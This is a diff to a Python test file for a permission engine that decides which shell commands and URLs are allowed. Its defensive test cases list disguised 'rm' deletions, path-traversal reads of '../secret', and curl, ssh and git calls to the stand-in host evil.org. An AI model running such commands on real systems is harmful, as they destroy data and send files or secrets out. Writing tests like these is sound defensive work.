@@ -8,6 +8,7 @@ import pytest
 
 from airboss.harness.rules import first, holds, suggest
 from airboss.model.ids import RuleId
+from airboss.model.redaction import Redactor
 from airboss.model.rules import KeptRule, Rule
 from airboss.runtime.permission import PermissionWish, wish
 from airboss.service.rules import settle
@@ -106,6 +107,8 @@ def test_a_command_is_allowed_when_every_part_of_it_is(folder: Path) -> None:
     for odd in unreadable:
         assert not holds(rule, shell("git status", commandSegments=odd), folder)
     assert not holds(rule, shell("git status", hasWriteFileRedirection=True), folder)
+    hidden = [{"fullCommandText": "git status", "hasUnboundExecutableContent": True}]
+    assert not holds(rule, shell("git status", commandSegments=hidden), folder)
 
 
 def test_a_command_without_any_star_is_allowed_word_for_word(folder: Path) -> None:
@@ -138,6 +141,12 @@ def test_a_command_without_any_star_is_allowed_word_for_word(folder: Path) -> No
         "(rm x)",
         "{ rm x; }",
         "ls\nrm x",
+        "/bin/rm x",
+        "A=b rm x",
+        "sudo -u me rm x",
+        "bash -c 'cd y && rm x'",
+        "env A=b rm x",
+        "find . | xargs -n 1 rm x",
     ],
 )
 def test_a_denied_command_is_found_in_any_part_and_spelling(folder: Path, command: str) -> None:
@@ -145,7 +154,8 @@ def test_a_denied_command_is_found_in_any_part_and_spelling(folder: Path, comman
         assert holds(rule, shell(command), folder)
         assert holds(rule.model_copy(update={"verdict": "ask"}), shell(command), folder)
     assert holds(deny(command="rm *"), shell("x", "rm x"), folder)
-    assert not holds(deny(command="rm *"), shell("rmdir x"), folder)
+    for other in ("rmdir x", "git rm x", "git commit -m 'rm x'"):
+        assert not holds(deny(command="rm *"), shell(other), folder)
 
 
 def test_what_is_missing_is_never_allowed_and_always_denied(folder: Path) -> None:
@@ -297,12 +307,56 @@ def test_an_address_that_nobody_can_be_sure_of_is_denied(folder: Path) -> None:
     assert not holds(allow(wish="url", host="*.example.com"), url("https://example.com"), folder)
 
 
-def test_what_a_command_touches_is_guessed_and_allows_nothing_by_itself(folder: Path) -> None:
+def test_what_a_command_touches_is_guessed_and_allows_nothing(folder: Path) -> None:
     said = shell("x", possiblePaths=["docs/page"], possibleUrls=[{"url": "https://example.com"}])
     assert not holds(allow(wish="shell", path="*"), said, folder)
     assert not holds(allow(wish="shell", host="*"), said, folder)
-    assert holds(allow(wish="shell", command="x", path="*", host="*"), said, folder)
-    assert not holds(allow(wish="shell", command="x", host="evil.org"), said, folder)
+    assert not holds(allow(wish="shell", command="x", path="*"), said, folder)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat ../secret",
+        "cat 'docs/out/secret'",
+        "cat <../secret",
+        "echo x >../secret",
+        "tool --file=../secret",
+        "cat docs/page; cat in/out/secret",
+        "sh -c 'cat docs/../../secret' x=../secret",
+        "cat 'open ../secret",
+    ],
+)
+def test_a_denied_file_is_found_among_the_words_of_a_command(folder: Path, command: str) -> None:
+    rule = deny(path=f"{folder.parent}/secret")
+    assert holds(rule, shell(command), folder)
+    assert not holds(rule, shell("cat docs/page secret"), folder)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://evil.org/x",
+        "curl -s 'HTTPS://x@EVIL.org:8/'",
+        "curl evil.org/x",
+        "ssh me@evil.org",
+        "git clone git@evil.org:x/y",
+        "git clone ssh://git@evil.org/x",
+        "curl $(echo https://$HOST/x)",
+    ],
+)
+def test_a_denied_host_is_found_among_the_words_of_a_command(folder: Path, command: str) -> None:
+    assert holds(deny(host="evil.org"), shell(command), folder)
+    assert not holds(deny(host="evil.org"), shell("curl https://example.com/evil.org"), folder)
+    assert not holds(deny(host="*"), shell("ls -l file.txt"), folder)
+
+
+def test_a_command_with_too_many_words_is_unclear_and_so_it_is_denied(folder: Path) -> None:
+    long = shell("echo " + " ".join(f"w{number}" for number in range(2000)))
+    assert holds(deny(path="/nowhere"), long, folder)
+    assert holds(deny(host="example.com"), long, folder)
+    assert not holds(deny(command="rm *"), long, folder)
+    assert holds(allow(wish="shell", command="echo *"), long, folder)
 
 
 @pytest.mark.parametrize(
@@ -329,6 +383,13 @@ def test_a_rule_of_a_folder_is_for_the_sessions_below_it(folder: Path) -> None:
     assert not holds(rule, shell("ls"), folder.parent)
     assert not holds(rule, shell("ls"), folder / "docs" / "out")
     assert not holds(rule, shell("ls"), Path(f"{folder}-beside"))
+
+
+def test_a_secret_is_in_no_suggested_rule(folder: Path) -> None:
+    said = shell("curl -H a-secret-value https://example.com")
+    assert suggest(said, folder, Redactor(("a-secret-value",))) is None
+    assert suggest(said, folder) is not None
+    assert suggest(shell(f"curl -H ghp_{'a' * 30} https://example.com"), folder) is None
 
 
 def test_what_is_suggested_is_as_narrow_as_the_wish(folder: Path) -> None:
